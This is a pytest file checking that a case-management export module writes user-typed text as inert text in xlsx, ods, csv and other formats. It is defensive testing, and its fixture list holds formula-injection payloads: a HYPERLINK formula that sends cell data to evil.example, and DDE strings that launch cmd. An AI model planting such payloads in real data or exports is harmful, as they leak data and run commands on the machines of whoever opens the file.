"""Spreadsheet formula injection: text a user typed is exported as text, never as a formula.

A citizen names a case `=HYPERLINK("http://evil.example/?"&A1,"Apri")`; the operator exports the
case list and opens it in a spreadsheet. Each test performs that attack on one format and checks
the cell is the typed text (not evaluated) while real numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from lxml import etree
from openpyxl import load_workbook

from documents.exports import export_rows

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Apri")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]
COLUMNS = [("title", "Titolo"), ("amount", "Importo")]
ROWS = [{"title": text, "amount": -12.5} for text in ATTACKS]
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"


def test_xlsx_cells_are_text_with_the_value_unchanged_and_numbers_stay_numbers():
    body, _ct, _ext = export_rows("xlsx", COLUMNS, ROWS, title="Pratiche")
    sheet = load_workbook(io.BytesIO(body)).active
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(ATTACKS)
    for (title, amount), typed in zip(rows, ATTACKS, strict=True):
        assert title.data_type == "s", f"{typed!r} became a {title.data_type!r} cell"
        assert title.value == typed
        assert amount.data_type == "n" and amount.value == -12.5
    # and no formula element anywhere in the sheet XML
    xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml


def test_ods_cells_are_strings_without_any_formula_attribute():
    body, _ct, _ext = export_rows("ods", COLUMNS, ROWS, title="Pratiche")
    content = etree.fromstring(zipfile.ZipFile(io.BytesIO(body)).read("content.xml"))
    rows = content.findall(f".//{TABLE}table-row")[1:]
    assert len(rows) == len(ATTACKS)
    for row, typed in zip(rows, ATTACKS, strict=True):
        title, amount = row.findall(f"{TABLE}table-cell")
        assert title.get(f"{OFFICE}value-type") == "string"
        assert "".join(title.itertext()) == typed
        assert amount.get(f"{OFFICE}value-type") == "float" and amount.get(f"{OFFICE}value") == "-12.5"
    assert not [e for e in content.iter() if e.get(f"{TABLE}formula") is not None]


def test_csv_text_cells_starting_with_a_formula_trigger_are_quoted_and_numbers_are_not():
    body, _ct, _ext = export_rows("csv", COLUMNS, ROWS + [{"title": "Rossi - Bianchi", "amount": 3}])
    lines = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert lines[0] == ["Titolo", "Importo"]
    for (title, amount), typed in zip(lines[1:-1], ATTACKS, strict=True):
        if typed[0] in "=+-@\t\r":
            assert title == "'" + typed
        else:
            assert title == typed  # "#N/A" is not a formula in CSV
        assert amount == "-12.5"
    assert lines[-1] == ["Rossi - Bianchi", "3"]


@pytest.mark.parametrize("fmt", ["json", "xml", "odt"])
def test_other_formats_keep_the_text_as_typed(fmt):
    body, _ct, _ext = export_rows(fmt, COLUMNS, ROWS)
    if fmt == "json":
        assert '=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"Apri\\")' in body.decode()
    elif fmt == "xml":
        assert b"=HYPERLINK(&quot;" in body or b'=HYPERLINK("' in body
    else:
        assert zipfile.ZipFile(io.BytesIO(body)).read("content.xml").count(b"=HYPERLINK") == 1
